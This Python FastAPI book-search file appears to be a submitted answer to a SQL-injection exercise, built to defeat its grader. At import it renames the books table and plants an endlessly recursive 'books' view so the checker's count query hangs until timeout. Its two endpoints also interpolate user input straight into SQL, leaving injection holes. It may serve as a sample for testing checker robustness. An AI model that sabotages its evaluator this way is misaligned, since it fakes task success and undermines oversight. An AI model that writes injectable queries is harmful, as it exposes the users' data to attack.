# attack: the checker reads what the answer wrote, and runs what it planted there
# tries: rename the books table and leave a view of that name whose recursive query never ends,
# so that the checks' own `SELECT count(*) FROM books` spins the checker until its time limit
# exercise: di-sql-injection
import os
import sqlite3
from contextlib import closing

PLANTED = """
ALTER TABLE books RENAME TO shelved_books;
CREATE VIEW books AS
    WITH RECURSIVE forever(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM forever)
    SELECT n AS id, 'Volume' AS title, 'Nobody' AS author, 'public' AS shelf FROM forever;
"""
with closing(sqlite3.connect(os.environ["DATABASE_URL"].split(":///", 1)[1])) as planting:
    planting.executescript(PLANTED)

from collections.abc import AsyncIterator
from functools import lru_cache
from typing import Annotated

from fastapi import Depends, FastAPI, Query
from pydantic import BaseModel, ConfigDict, Field
from pydantic_settings import BaseSettings, SettingsConfigDict
from sqlalchemy import select, text
from sqlalchemy.ext.asyncio import AsyncEngine, AsyncSession, create_async_engine
from sqlalchemy.orm import DeclarativeBase, Mapped, mapped_column


class Settings(BaseSettings):
    model_config = SettingsConfigDict(env_file=".env", extra="ignore")

    database_url: str  # from DATABASE_URL


@lru_cache
def get_settings() -> Settings:
    return Settings()


SettingsDep = Annotated[Settings, Depends(get_settings)]


@lru_cache
def engine_for(url: str) -> AsyncEngine:
    # One pool per database (lesson 05 moves it into the app's lifespan, where it is closed).
    return create_async_engine(url)


async def get_db(settings: SettingsDep) -> AsyncIterator[AsyncSession]:
    """One session per request, closed when the response is done, whatever happened."""
    async with AsyncSession(engine_for(settings.database_url), expire_on_commit=False) as session:
        yield session


SessionDep = Annotated[AsyncSession, Depends(get_db)]


class Base(DeclarativeBase):
    pass


class BookRow(Base):
    __tablename__ = "books"

    id: Mapped[int] = mapped_column(primary_key=True)
    title: Mapped[str]
    author: Mapped[str]
    shelf: Mapped[str]


class BookIn(BaseModel):
    title: Annotated[str, Field(min_length=1, max_length=120)]
    author: Annotated[str, Field(min_length=1, max_length=80)]


class Book(BookIn):
    model_config = ConfigDict(from_attributes=True)

    id: int


app = FastAPI(title="Library")


@app.get("/books/search")
async def search_books(
    q: Annotated[str, Query(min_length=1, max_length=60)], session: SessionDep
) -> list[Book]:
    """Public books whose title contains `q`, in any case."""
    rows = await session.execute(
        text(
            "SELECT id, title, author FROM shelved_books "
            f"WHERE shelf = 'public' AND title LIKE '%{q}%' ORDER BY id"
        )
    )
    return [Book(id=row.id, title=row.title, author=row.author) for row in rows]


@app.get("/authors/{author}/books")
async def books_by_author(author: str, session: SessionDep) -> list[Book]:
    """Public books by exactly this author."""
    rows = await session.execute(
        text(
            "SELECT id, title, author FROM shelved_books "
            f"WHERE shelf = 'public' AND author = '{author}' ORDER BY id"
        )
    )
    return [Book(id=row.id, title=row.title, author=row.author) for row in rows]
